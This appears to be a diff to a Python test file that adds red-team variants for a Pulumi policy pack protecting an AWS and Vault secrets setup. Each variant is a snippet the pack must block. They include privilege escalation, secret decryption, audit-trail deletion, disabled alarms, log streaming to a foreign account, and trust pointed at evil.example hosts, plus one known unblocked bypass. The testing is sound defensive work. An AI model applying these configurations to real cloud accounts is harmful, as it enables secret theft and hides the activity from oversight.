@@ -249,6 +249,112 @@ VARIANTS = VARIANTS + (
       '_aws.iam.UserGroupMembership("x", user="ops-bot", groups=["ops"])'),
 )
 
+_BILLING_FOLDER = '"arn:aws:secretsmanager:" + _R + ":" + _ACCT + ":secret:agents/dev/billing/*"'
+
+
+def _rp(action: str, resource: str) -> str:
+    return f'_aws.iam.RolePolicy("x", role=_CRM_ROLE, policy=_doc({{"Effect": "Allow", "Action": {action!r}, "Resource": {resource}}}))'
+
+
+REDTEAM2: tuple[Variant, ...] = (
+    # ---- IAM documents in types no policy reads ----
+    v("sso-permission-set-inline-decrypt-and-read-star", "closed-world",
+      '_aws.ssoadmin.PermissionSetInlinePolicy("x", instance_arn="arn:aws:sso:::instance/ssoins-1", '
+      'permission_set_arn="arn:aws:sso:::permissionSet/ssoins-1/ps-1", inline_policy=_doc({"Effect": "Allow", '
+      '"Action": ["kms:Decrypt", "secretsmanager:GetSecretValue"], "Resource": "*"}))'),
+    # ---- Vault stores policy names trimmed and lowercased ----
+    v("vault-okta-group-nested-uppercase-policy", "closed-world vault-login-confined",
+      '_vault.okta.AuthBackend("x", organization="o", groups=[{"group_name": "ops", "policies": [_VAULT_CRM.upper()]}])'),
+    v("vault-policy-uppercase-name-replaces-agents", "vault-login-confined",
+      '_vault.Policy("x", name=_VAULT_CRM.upper(), policy=\'path "kv/data/dev/crm/*" { capabilities = ["deny"] }\')'),
+    v("vault-policy-padded-name-replaces-agents", "vault-login-confined",
+      '_vault.Policy("x", name=" " + _VAULT_CRM + " ", policy=\'path "kv/data/dev/crm/*" { capabilities = ["deny"] }\')'),
+    # ---- Vault login mounts' trust roots ----
+    v("vault-aws-auth-client-foreign-sts", "closed-world",
+      '_vault.aws.AuthBackendClient("x", backend="aws", sts_endpoint="https://sts.evil.example", iam_endpoint="https://iam.evil.example")'),
+    v("vault-kubernetes-config-foreign-host", "closed-world",
+      '_vault.kubernetes.AuthBackendConfig("x", backend="kubernetes", kubernetes_host="https://evil.example")'),
+    v("vault-aws-auth-sts-role", "closed-world",
+      '_vault.aws.AuthBackendStsRole("x", backend="aws", account_id="999988887777", sts_role="arn:aws:iam::999988887777:role/vault")'),
+    v("vault-kv-mount-keeps-one-version", "closed-world",
+      '_vault.kv.SecretBackendV2("x", mount="kv", max_versions=1, delete_version_after=1)'),
+    # ---- IAM role names are case-insensitive ----
+    v("ecs-task-role-arn-uppercase-name", "closed-world",
+      '_aws.ecs.TaskDefinition("x", family="t", container_definitions="[]", task_role_arn="arn:aws:iam::" + _ACCT + ":role/" + _CRM_ROLE.upper())'),
+    # ---- trust ----
+    v("trust-root-principal-arn-account-wide", "trust-policy-scoped",
+      '_aws.iam.Role("x", name="r", tags=_TAGS, assume_role_policy=_doc({"Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::" + _ACCT + ":root"}, '
+      '"Action": "sts:AssumeRole", "Condition": {"ArnLike": {"aws:PrincipalArn": "arn:aws:iam::" + _ACCT + ":*"}}}))'),
+    v("trust-root-principal-arn-any-role", "trust-policy-scoped",
+      '_aws.iam.Role("x", name="r", tags=_TAGS, assume_role_policy=_doc({"Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::" + _ACCT + ":root"}, '
+      '"Action": "sts:AssumeRole", "Condition": {"ArnLike": {"aws:PrincipalArn": "arn:aws:iam::" + _ACCT + ":role/*"}}}))'),
+    # ---- invoking the fleet's functions with inputs of one's choosing ----
+    v("events-rule-invokes-rotation-function", "lambda-permission-scoped",
+      'r = _aws.cloudwatch.EventRule("r", schedule_expression="rate(1 minute)")\n'
+      '_aws.cloudwatch.EventTarget("t", rule=r.name, arn=_n.lambda_function_arn(_S, _n.rotation_function_name(_S, "crm")), '
+      'input=_json.dumps({"SecretId": "x", "Step": "finishSecret", "ClientRequestToken": "y"}))\n'
+      '_aws.lambda_.Permission("p", action="lambda:InvokeFunction", function=_n.rotation_function_name(_S, "crm"), '
+      'principal="events.amazonaws.com", source_account=_ACCT, source_arn=r.arn)'),
+    v("s3-invokes-rotation-function", "lambda-permission-scoped",
+      '_aws.lambda_.Permission("p", action="lambda:InvokeFunction", function=_n.rotation_function_name(_S, "crm"), '
+      'principal="s3.amazonaws.com", source_account=_ACCT, source_arn="arn:aws:s3:::evil-bucket")'),
+    v("lambda-permission-any-action", "lambda-permission-scoped",
+      '_aws.lambda_.Permission("p", action="lambda:*", function=_n.rotation_function_name(_S, "crm"), '
+      'principal="secretsmanager.amazonaws.com", source_account=_ACCT, source_arn=_STRIPE_SECRET.arn)'),
+    # ---- the audit trail's storage ----
+    v("trail-bucket-second-policy-open", "closed-world",
+      '_aws.s3.BucketPolicy("x", bucket=_n.trail_bucket_name(_S), policy=_doc({"Effect": "Allow", "Principal": "*", "Action": "s3:*", "Resource": "*"}))'),
+    v("trail-bucket-lifecycle-expiry", "closed-world",
+      '_aws.s3.BucketLifecycleConfigurationV2("x", bucket=_n.trail_bucket_name(_S), rules=[{"id": "gone", "status": "Enabled", '
+      '"expiration": {"days": 1}}])'),
+    # ---- the key's name pointed elsewhere ----
+    v("kms-alias-of-the-keys-name-to-another-key", "closed-world",
+      '_aws.kms.Alias("x", name=_n.kms_alias(_S), target_key_id="arn:aws:kms:" + _R + ":" + _ACCT + ":key/evil")'),
+    # ---- decrypt through Secrets Manager without the encryption context ----
+    v("kms-decrypt-via-secretsmanager-any-secret", "kms-use-confined",
+      '_aws.iam.RolePolicy("x", role=_CRM_ROLE, policy=_doc({"Effect": "Allow", "Action": "kms:Decrypt", "Resource": "*", '
+      '"Condition": {"StringEquals": {"kms:ViaService": "secretsmanager." + _R + ".amazonaws.com"}}}))'),
+    v("kms-schedule-key-deletion", "kms-use-confined", _rp("kms:ScheduleKeyDeletion", '"*"')),
+    # ---- secret writes the pack did not count ----
+    v("agent-role-with-the-shared-rotation-write-form", "rotation-role-scoped",
+      '_aws.iam.RolePolicy("x", role=_CRM_ROLE, policy=_doc({"Effect": "Allow", "Action": "secretsmanager:PutSecretValue", '
+      '"Resource": "arn:aws:secretsmanager:" + _R + ":" + _ACCT + ":secret:agents/dev/*", "Condition": {"StringEquals": '
+      '{"aws:ResourceTag/managed-by": "agentfleet", "aws:ResourceTag/environment": "dev"}}}))'),
+    v("cancel-rotation-of-another-agents-secret", "rotation-role-scoped", _rp("secretsmanager:CancelRotateSecret", _BILLING_FOLDER)),
+    v("retag-another-agents-secret", "rotation-role-scoped", _rp("secretsmanager:TagResource", _BILLING_FOLDER)),
+    v("replicate-another-agents-secret", "rotation-role-scoped", _rp("secretsmanager:ReplicateSecretToRegions", _BILLING_FOLDER)),
+    # ---- escalation ----
+    v("delete-own-role-policy-with-the-denies", "no-privilege-escalation", _rp("iam:DeleteRolePolicy", '"*"')),
+    v("detach-role-policy", "no-privilege-escalation", _rp("iam:DetachRolePolicy", '"*"')),
+    v("create-public-function-url", "no-privilege-escalation", _rp("lambda:CreateFunctionUrlConfig", '"*"')),
+    # ---- detection AWS overwrites in place ----
+    v("alarm-of-the-same-name-with-actions-off", "closed-world",
+      '_aws.cloudwatch.MetricAlarm("x", name=_S.secret_prefix + "-" + _S.environment + "-rotation-revoke-failures", actions_enabled=False, '
+      'comparison_operator="GreaterThanThreshold", evaluation_periods=1, metric_name="m", namespace="n", period=60, statistic="Sum", threshold=1e9)'),
+    v("metric-filter-of-the-same-name-matching-nothing", "closed-world",
+      '_aws.cloudwatch.LogMetricFilter("x", name=_S.secret_prefix + "-" + _S.environment + "-secret-reads", log_group_name=_n.trail_log_group_name(_S), '
+      'pattern="{ $.eventName = \\"Nothing\\" }", metric_transformation={"name": "m", "namespace": "n", "value": "1"})'),
+    v("trail-log-group-again-one-day", "closed-world",
+      '_aws.cloudwatch.LogGroup("x", name=_n.trail_log_group_name(_S), retention_in_days=1)'),
+    v("alert-topic-second-policy-open", "closed-world",
+      '_aws.sns.TopicPolicy("x", arn=_n.alarm_topic_arn(_S), policy=_doc({"Effect": "Allow", "Principal": {"AWS": "*"}, "Action": "sns:*", "Resource": "*"}))'),
+    v("trail-log-group-streamed-to-another-account", "closed-world",
+      '_aws.cloudwatch.LogSubscriptionFilter("x", name="exfil", log_group=_n.trail_log_group_name(_S), filter_pattern="", '
+      'destination_arn="arn:aws:logs:" + _R + ":999988887777:destination:evil")'),
+)
+"""Red team 2 (issue 11): classes beyond the first corpus, each closed at its policy."""
+
+VARIANTS = VARIANTS + REDTEAM2
+
+OPEN_BYPASSES: tuple[Variant, ...] = (
+    # The alert topic's subscriptions come from `agentfleet:alarmSubscriptions`, which the policy
+    # config does not carry (the pack cannot tell a reviewed subscription from another one).
+    v("alert-topic-subscribed-by-an-outside-endpoint", "closed-world",
+      '_aws.sns.TopicSubscription("x", topic=_n.alarm_topic_arn(_S), protocol="https", endpoint="https://evil.example/hook")'),
+)
+"""Variants that still pass `check` (not run as tests; see the red-team report). They are kept
+here so the fix can flip them into VARIANTS."""
+
 _UNDER_FLEET = "opts=_pulumi.ResourceOptions(parent=fleet)"
 _UNDER_CRM = 'opts=_pulumi.ResourceOptions(parent=fleet.agents["crm"])'
 _CRM_ROTATION = "_n.rotation_role_name(_S, 'crm')"
